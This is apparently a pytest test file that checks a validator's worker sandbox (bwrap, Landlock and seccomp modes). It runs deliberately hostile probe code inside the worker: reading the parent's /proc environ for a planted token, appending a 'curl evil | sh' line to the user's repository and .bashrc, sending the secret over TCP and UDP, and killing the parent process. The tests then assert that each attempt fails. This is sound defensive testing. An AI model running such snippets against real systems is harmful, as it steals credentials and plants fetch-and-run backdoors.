"""The worker sandbox (dice.validator.sandbox): what candidate code in a worker can no longer do.

Each mode gets one CPU pool (bwrap where it can run here, the Landlock fallback wherever the kernel has
Landlock); probe tasks run test-provided code in the worker as a candidate would, then an honest task in
the same pool must still get its true verdict."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from dice.validator import ValidatorPool
from dice.validator import sandbox as sandbox_mod
from dice.validator.sandbox import SandboxUnavailable, bwrap_status, landlock_abi

SECRET_NAME, SECRET = "DICE_AUDIT_API_TOKEN", "sk-planted-9f3b7c"  # a DICE_ name: not on the allow-list
MODES = [
    pytest.param(
        "bwrap", marks=pytest.mark.skipif(bwrap_status()[0] is None, reason=f"bwrap: {bwrap_status()[1]}")
    ),
    pytest.param(
        "fallback", marks=pytest.mark.skipif(landlock_abi() < 1, reason="no Landlock in this kernel")
    ),
]


@pytest.fixture(scope="module", params=MODES)
def sandboxed(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
    """A one-worker CPU pool in the mode, started with a planted secret, a user repository as cwd and a
    user HOME with a ``.bashrc``: what the pool's process has, and the worker must not reach."""
    root = tmp_path_factory.mktemp(f"sandbox-{request.param}")
    repo, home = root / "repo", root / "home"
    repo.mkdir()
    home.mkdir()
    (home / ".bashrc").write_text("# the user's\n")
    saved = {k: os.environ.get(k) for k in (SECRET_NAME, "DICE_CACHE_DIR", "HOME", "DICE_SANDBOX")}
    cwd = os.getcwd()
    os.environ.update({SECRET_NAME: SECRET, "DICE_CACHE_DIR": str(root / "cache"), "HOME": str(home)})
    os.environ.pop("DICE_SANDBOX", None)
    os.chdir(repo)
    try:
        with ValidatorPool(1, gpu=False, sandbox=request.param) as pool:
            yield {"pool": pool, "mode": request.param, "repo": repo, "home": home}
    finally:
        os.chdir(cwd)
        for key, value in saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value


def run_code(pool: ValidatorPool, code: str) -> Any:
    verdict = pool._submit(
        {"kind": "probe", "action": "exec", "code": textwrap.dedent(code)}, use_cache=False
    )
    result = verdict.result(timeout=120)
    assert result.status == "compiled", (result.message, result.log)
    return json.loads(result.message)


def test_a_planted_secret_is_not_visible(sandboxed: dict) -> None:
    seen = run_code(
        sandboxed["pool"],
        """
        import os
        try:
            parent = open(f"/proc/{os.getppid()}/environ", "rb").read().decode("utf-8", "replace")
        except OSError as exc:
            parent = repr(exc)
        result = {"env": dict(os.environ), "parent": parent}
        """,
    )
    assert SECRET_NAME not in seen["env"] and SECRET not in json.dumps(seen["env"])
    assert SECRET not in seen["parent"]  # nor through the parent's /proc entry
    assert seen["env"]["HOME"] != str(sandboxed["home"])


def test_writes_to_the_repository_and_home_fail_and_leave_them_unchanged(sandboxed: dict) -> None:
    repo, home = sandboxed["repo"], sandboxed["home"]
    seen = run_code(
        sandboxed["pool"],
        f"""
        result = {{}}
        for path in ({str(repo / "planted.py")!r}, {str(home / ".bashrc")!r}):
            try:
                with open(path, "a") as f:
                    f.write("curl evil | sh\\n")
                result[path] = "written"
            except OSError as exc:
                result[path] = type(exc).__name__
        """,
    )
    assert "written" not in seen.values(), seen
    assert not (repo / "planted.py").exists()
    assert (home / ".bashrc").read_text() == "# the user's\n"


def test_a_loopback_listener_receives_nothing(sandboxed: dict) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as server:
        server.bind(("127.0.0.1", 0))
        server.listen(1)
        server.settimeout(2.0)
        port = server.getsockname()[1]
        seen = run_code(
            sandboxed["pool"],
            f"""
            import socket
            try:
                with socket.create_connection(("127.0.0.1", {port}), timeout=3) as s:
                    s.sendall(b"{SECRET}")
                result = "sent"
            except OSError as exc:
                result = type(exc).__name__
            """,
        )
        assert seen != "sent"
        with pytest.raises(TimeoutError):
            server.accept()


@pytest.mark.skipif(not sandbox_mod.seccomp_available(), reason="libseccomp is not installed")
def test_a_loopback_udp_listener_receives_nothing(sandboxed: dict) -> None:
    """Landlock stops TCP only; the seccomp filter stops every internet socket (UDP here)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        server.settimeout(2.0)
        port = server.getsockname()[1]
        seen = run_code(
            sandboxed["pool"],
            f"""
            import socket
            try:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                    s.sendto(b"{SECRET}", ("127.0.0.1", {port}))
                result = "sent"
            except OSError as exc:
                result = type(exc).__name__
            """,
        )
        assert seen == "PermissionError", seen
        with pytest.raises(TimeoutError):
            server.recvfrom(100)


@pytest.mark.skipif(not sandbox_mod.seccomp_available(), reason="libseccomp is not installed")
@pytest.mark.parametrize("unix", [False, True])
def test_the_seccomp_filter_denies_every_socket_family_but_its_own(unix: bool) -> None:
    code = f"""
        import ctypes, json, socket
        from dice.validator import sandbox
        sandbox.apply_seccomp(unix={unix})
        libc = ctypes.CDLL(None, use_errno=True)
        seen = {{}}
        for name, family in [("inet", 2), ("inet6", 10), ("packet", 17), ("vsock", 40), ("unix", 1),
                             ("netlink", 16), ("high bits", 0x100000002), ("above AF_MAX", 46)]:
            fd = libc.syscall(41, ctypes.c_long(family), 2 if name != "netlink" else 3, 0)
            seen[name] = "ok" if fd >= 0 else ctypes.get_errno()
        a, b = socket.socketpair()
        seen["socketpair"] = "ok"
        seen["io_uring"] = ctypes.get_errno() if libc.syscall(425, 1, ctypes.c_void_p(0)) < 0 else "ok"
        print(json.dumps(seen))
    """
    out = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(code)], capture_output=True, text=True, check=True
    )
    seen = json.loads(out.stdout)
    denied = {"inet", "inet6", "packet", "vsock", "high bits", "above AF_MAX"} | ({"unix"} if unix else set())
    assert {k for k, v in seen.items() if v == 13} == denied, seen
    assert seen["netlink"] == seen["socketpair"] == "ok" and seen["io_uring"] == 1, seen
    assert seen["unix"] == (13 if unix else "ok")


def test_a_candidate_cannot_kill_its_parent_and_an_honest_task_still_passes(sandboxed: dict) -> None:
    if sandboxed["mode"] == "fallback" and landlock_abi() < 6:
        pytest.skip("signal scoping needs Landlock ABI 6")
    pool = sandboxed["pool"]
    seen = run_code(
        pool,
        f"""
        import os, signal
        result = []
        for pid in (os.getppid(), {os.getpid()}):  # its parent, and the pool's process by number
            try:
                os.kill(pid, signal.SIGKILL)
                result.append([pid, "signalled"])
            except OSError as exc:
                result.append([pid, type(exc).__name__])
        """,
    )
    # still here; under bwrap its parent is the sandbox's init (pid 1, immune to signals from inside) and
    # this process is not in its pid namespace; in the fallback Landlock refuses both signals
    if sandboxed["mode"] == "bwrap":
        assert seen[0][0] == 1 and seen[1][1] == "ProcessLookupError", seen
    else:
        assert [outcome for _, outcome in seen] == ["PermissionError", "PermissionError"], seen
    honest = pool.validate_cu("__global__ void honest(int* x) { *x = 1; }\n")
    assert honest.status == "compiled", honest.message
    assert honest.log.splitlines()[-1] == f"isolation: {pool.isolation}"
    assert pool.isolation.startswith(sandboxed["mode"] + " (")


def test_the_worker_gets_only_its_folders_as_writable(sandboxed: dict) -> None:
    pool = sandboxed["pool"]
    info = json.loads(
        pool._submit({"kind": "probe", "action": "write_cwd"}, use_cache=False).result().message
    )
    assert (Path(info["cwd"]) / "probe.txt").is_file()
    assert info["home"] == info["cwd"] and info["tmp"] == info["cwd"] + "/tmp"
    assert info["pid"] == pool._live[0].pid != os.getpid()


def test_required_without_any_sandbox_refuses_to_start(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox_mod, "available", lambda: "none")
    monkeypatch.setattr(sandbox_mod, "landlock_abi", lambda: 0)
    monkeypatch.setenv("DICE_SANDBOX", "required")
    with pytest.raises(SandboxUnavailable, match="DICE_SANDBOX=required"):
        ValidatorPool(1, gpu=False)
    monkeypatch.setenv("DICE_SANDBOX", "auto")
    with pytest.raises(SandboxUnavailable):
        ValidatorPool(1, gpu=False, sandbox="required")  # the parameter wins over the environment
    with pytest.raises(ValueError, match="sandbox must be one of"):
        ValidatorPool(1, gpu=False, sandbox="maybe")


def test_off_keeps_the_old_unconfined_worker(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DICE_CACHE_DIR", str(tmp_path))
    monkeypatch.setenv(SECRET_NAME, SECRET)
    monkeypatch.setenv("DICE_SANDBOX", "off")
    with ValidatorPool(1, gpu=False) as pool:
        seen = run_code(pool, "import os\nresult = os.environ.get('DICE_AUDIT_API_TOKEN')")
        assert seen == SECRET and pool.isolation == "none"
        verdict = pool._submit({"kind": "probe", "action": "ok"}, use_cache=False).result()
        assert verdict.log.splitlines()[-1] == "isolation: none"


def test_the_environment_allow_list() -> None:
    env = {"PATH": "/bin", "LC_ALL": "C", "CUDA_HOME": "/cuda", "OPENAI_API_KEY": "x", "SSH_AUTH_SOCK": "/s"}
    assert sandbox_mod.worker_env({**env, "DICE_WORKER_LOG": "/l", "DICE_TOKEN": "t"}) == {
        "PATH": "/bin",
        "LC_ALL": "C",
        "CUDA_HOME": "/cuda",
        "DICE_WORKER_LOG": "/l",
    }


def test_dice_doctor_reports_isolation_and_fails_only_when_required_is_unmet(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from dice.cli import main

    monkeypatch.setenv("DICE_SANDBOX", "auto")
    assert main(["doctor"]) == 0
    out = capsys.readouterr().out
    assert f"isolation: {sandbox_mod.describe(sandbox_mod.available())}" in out and "nvcc" in out
    monkeypatch.setattr(sandbox_mod, "available", lambda: "none")
    monkeypatch.setattr(sandbox_mod, "landlock_abi", lambda: 0)
    monkeypatch.setenv("DICE_SANDBOX", "required")
    assert main(["doctor"]) == 1
    assert "isolation: none" in capsys.readouterr().out


@pytest.mark.skipif(shutil.which("bwrap") is None, reason="bwrap is not installed")
def test_on_a_gpu_machine_bwrap_is_used_only_when_cuda_starts_inside(monkeypatch: pytest.MonkeyPatch) -> None:
    """With GPU nodes present, the probe starts CUDA inside bwrap: where it cannot (here: no driver), the
    pool falls back to Landlock instead of giving every GPU task a broken worker."""
    real_glob = sandbox_mod.glob.glob
    monkeypatch.setattr(
        sandbox_mod.glob, "glob", lambda pattern: ["/dev/null"] if "nvidia" in pattern else real_glob(pattern)
    )
    sandbox_mod.bwrap_status.cache_clear()
    try:
        path, why = sandbox_mod.bwrap_status()
        assert path is None and why.startswith("CUDA does not start inside bwrap"), why
        assert sandbox_mod.available() in ("fallback", "none")
        sandbox_mod.bwrap_status.cache_clear()
        monkeypatch.setattr(sandbox_mod, "CUDA_PROBE", [sys.executable, "-c", "pass"])
        assert sandbox_mod.bwrap_status() == (shutil.which("bwrap"), "ok")
    finally:
        sandbox_mod.bwrap_status.cache_clear()
